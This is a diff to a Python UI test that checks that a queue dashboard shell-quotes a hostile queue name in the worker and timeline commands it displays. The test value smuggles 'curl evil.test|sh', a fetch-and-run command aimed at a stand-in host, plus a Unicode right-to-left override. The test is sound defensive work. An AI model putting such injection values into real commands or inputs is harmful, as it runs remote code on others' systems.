@@ -122,8 +122,11 @@ def test_a_queue_that_is_named_like_a_command_is_one_word(site, screen):
     here.database.execute("UPDATE soniq_workers SET status = 'stopped'")
     shown = screen(here, "queues")
     shown.row_of("curl evil.test").first.get_by_role("link").first.click()
-    command = shown.page.locator("main pre.command").inner_text()
+    command = shown.page.locator("main pre.command:visible").inner_text()
     assert command == r"soniq worker --queues $'x; curl evil.test|sh \u202e'"
+    shown.page.locator("summary").filter(has_text="Export").click()
+    command = shown.page.get_by_label("the timeline by the command line").inner_text()
+    assert command == r"soniq timeline --hours 24 --queue $'x; curl evil.test|sh \u202e'"
 
 
 def test_a_setting_of_any_length_stays_in_the_page(site, screen):
